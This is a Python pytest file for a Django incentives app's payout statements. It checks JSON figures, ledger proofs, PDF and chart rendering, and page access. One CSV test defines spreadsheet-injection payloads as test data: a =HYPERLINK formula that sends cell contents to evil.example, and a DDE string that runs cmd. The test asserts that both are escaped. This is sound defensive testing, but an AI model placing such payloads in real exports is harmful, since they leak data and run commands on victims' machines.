"""Statement documents: the JSON's figures, proof and hash, the CSV's spreadsheet safety,
the PDF, and the page; all drawn from the one document."""

from __future__ import annotations

import csv
import io
import re
import time
from decimal import Decimal

import pytest

from incentives.documents import (
    document_sha256,
    per_round_chart,
    statement_csv,
    statement_document,
    statement_pdf,
    statement_rows,
)
from incentives.services import pool_approve, pool_create, pool_issue, pool_statements_draft
from ledger import merkle
from ledger.models import Checkpoint, LedgerEntry
from ledger.notes import note_verify
from ledger.services import checkpoint_create, entry_append
from ledger.signing import public_key_bytes

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _pool(consortium, vrun, staff, *, issue=True, **fields):
    values = {"reference": "2026-q1", "period": "2026-Q1", "amount": Decimal("250000.00"), "currency": "EUR",
              "valuation_runs": [vrun.pk], **fields}
    pool = pool_create(actor=staff.principal("drafter"), consortium=consortium, **values)
    pool = pool_statements_draft(actor=staff.principal("drafter"), pool=pool)
    if issue:
        pool_approve(actor=staff.principal("first"), pool=pool)
        pool_approve(actor=staff.principal("second"), pool=pool)
        pool = pool_issue(actor=staff.principal("first"), pool=pool)
    return pool


@pytest.fixture
def statement(consortium, vrun, staff):
    """alpha's issued statement of a 250,000.00 EUR pool."""
    return _pool(consortium, vrun, staff).statements.select_related("pool__policy", "participant").get(
        participant__slug="alpha")


def test_it_shows_the_statements_figures_as_decimal_strings_and_exact_shares(statement):
    document = statement_document(statement=statement)
    figures = document["statement"]
    assert document["format"] == "fairshare-statement" and document["version"] == 1
    assert figures["amount"] == f"{statement.amount:.2f}" and figures["currency"] == "EUR"
    assert figures["carried_in"] == "0.00" and figures["share"] == statement.share
    assert figures["contribution"] == repr(statement.contribution)
    assert float(figures["ci_low"]) <= float(figures["contribution"]) <= float(figures["ci_high"])
    assert figures["methods"] == ["exact"]
    assert document["pool"]["period"] == "2026-Q1" and document["pool"]["amount"] == "250000.00"
    assert document["policy"]["version"] == statement.pool.policy.version
    assert [row["round"] for row in document["per_round"]] == ["0", "1"]


def test_its_amounts_are_the_ones_in_the_ledger_entry(statement):
    document = statement_document(statement=statement)
    entry = LedgerEntry.objects.get(seq=statement.ledger_entry_seq)
    body = entry.body
    for field in ("amount", "allocated", "carried_in", "carried_out"):
        assert Decimal(document["statement"][field]) == Decimal(body[field]), field
    payable = [p for p in entry.posting_lines if p["account"] == "participant_payable:alpha"]
    assert [p["amount"] for p in payable] == [Decimal(document["statement"]["amount"])]
    assert document["ledger"]["entry"]["canonical"].encode() == bytes(entry.canonical)
    assert document["ledger"]["entry_seqs"] == [statement.ledger_entry_seq]


def test_its_proof_is_against_the_checkpoint_signed_at_issuing_even_after_later_ones(statement, consortium):
    entry_append(consortium=consortium, kind="record", body={"memo": "later"}, actor="system:test",
                 reference_type="revenue_pool", reference_id="later")
    checkpoint_create()
    ledger = statement_document(statement=statement)["ledger"]
    assert ledger["inclusion"]["tree_size"] == statement.pool.checkpoint_size
    assert Checkpoint.objects.count() >= 2
    signed = note_verify(ledger["checkpoint"]["note"], public_keys=[public_key_bytes()])
    leaf = merkle.leaf_hash(ledger["entry"]["canonical"].encode())
    merkle.verify_inclusion(leaf, statement.ledger_entry_seq, signed.tree_size,
                            [bytes.fromhex(h) for h in ledger["inclusion"]["hashes"]], signed.root)


def test_its_hash_covers_every_figure(statement):
    document = statement_document(statement=statement)
    assert document_sha256(document) == document["document_sha256"]
    document["statement"]["amount"] = "999999.00"
    assert document_sha256(document) != document["document_sha256"]


def test_a_draft_says_it_has_no_entry_and_no_proof(consortium, vrun, staff):
    draft = _pool(consortium, vrun, staff, issue=False).statements.get(participant__slug="alpha")
    ledger = statement_document(statement=draft)["ledger"]
    assert ledger["entry"] is None and ledger["inclusion"] is None and ledger["checkpoint"] is None
    assert "draft" in ledger["note"]
    assert ("Ledger entries", "none") in statement_rows(statement=draft)
    assert b"%PDF" == statement_pdf(statement=draft)[:4]


def test_the_csv_shows_the_rows_and_runs_no_formula(consortium, vrun, staff):
    pool = _pool(consortium, vrun, staff, period=HOSTILE)
    alpha = pool.statements.get(participant__slug="alpha")
    alpha.participant.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    alpha.participant.save()
    cells = list(csv.reader(io.StringIO(statement_csv(statement=alpha))))
    assert cells[0] == ["item", "value"]
    assert dict(cells[1:])["Period"] == "'" + HOSTILE
    assert dict(cells[1:])["Participant"].startswith("'@SUM")
    assert dict(cells[1:])["Amount"] == f"{alpha.amount:.2f} EUR"
    assert not [cell for row in cells for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [tuple(row) for row in cells[1:]] == [
        (label, value if value[:1] not in "=+-@\t\r" or not value else "'" + value)
        for label, value in statement_rows(statement=alpha)
    ]


def test_the_pdf_is_a_pdf_of_the_page_with_page_numbers(statement):
    started = time.perf_counter()
    pdf = statement_pdf(statement=statement)
    elapsed = time.perf_counter() - started
    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert 5_000 < len(pdf) < 500_000
    assert elapsed < 10  # measured about 0.2 s; a guard against a runaway render, not a benchmark


def test_the_pdf_is_rendered_from_the_page_template_without_its_links(statement):
    from django.template.loader import render_to_string

    from incentives.documents import TEMPLATE, statement_page_context

    html = render_to_string(TEMPLATE, {**statement_page_context(statement=statement), "for_print": True})
    # WeasyPrint writes glyph ids, not characters, so the figures are checked in its source.
    assert f"{statement.amount:.2f} EUR" in html and "<svg" in html and "<rect" in html
    assert "document.pdf" not in html and "Sign out" not in html


def test_the_chart_puts_negative_rounds_below_the_zero_line():
    chart = per_round_chart([{"round": "0", "value": "0.5"}, {"round": "1", "value": "-0.25"}])
    up, down = chart["bars"]
    assert up["y"] + up["height"] == pytest.approx(chart["zero_y"]) and not up["negative"]
    assert down["y"] == chart["zero_y"] and down["negative"] and down["height"] == pytest.approx(up["height"] / 2)
    assert per_round_chart([]) is None


def test_the_page_shows_the_rows_the_chart_and_the_downloads(statement, client, staff):
    client.force_login(staff.users["auditor"])
    response = client.get(f"/c/{statement.pool.consortium.slug}/statements/{statement.pk}/")
    assert response.status_code == 200
    page = response.content.decode()
    assert f"{statement.amount:.2f} EUR" in page and "<svg" in page
    assert all(" src=" in tag for tag in re.findall(r"<script[^>]*>", page))  # no inline script
    for extension in ("json", "csv", "pdf"):
        assert f"/api/v1/statements/{statement.pk}/document.{extension}" in page
    assert 'style="' not in page  # the Content-Security-Policy refuses inline styles


def test_the_page_sends_a_stranger_to_sign_in_and_hides_another_consortiums_statement(statement, client):
    from tests.factories import ConsortiumFactory, MembershipFactory

    url = f"/c/{statement.pool.consortium.slug}/statements/{statement.pk}/"
    assert client.get(url)["Location"].startswith("/login")
    other = ConsortiumFactory(slug="other")
    client.force_login(MembershipFactory(consortium=other, role="finance").user)
    assert client.get(url).status_code == 404
    assert client.get(f"/c/other/statements/{statement.pk}/").status_code == 404


def test_a_minimum_payout_finer_than_the_pools_currency_is_written_as_it_is(consortium, vrun, staff):
    from incentives.services import policy_change

    policy = policy_change(actor=staff.principal("governance"), consortium=consortium,
                           minimum_payout=Decimal("0.5"), note="half a unit")
    pool = pool_create(actor=staff.principal("drafter"), consortium=consortium, reference="yen",
                       period="2026-Q1", amount=Decimal("100000"), currency="JPY", valuation_runs=[vrun.pk],
                       policy=policy)
    pool = pool_statements_draft(actor=staff.principal("drafter"), pool=pool)
    document = statement_document(statement=pool.statements.first())
    assert document["policy"]["minimum_payout"] == "0.5"
    assert document["pool"]["amount"] == "100000"
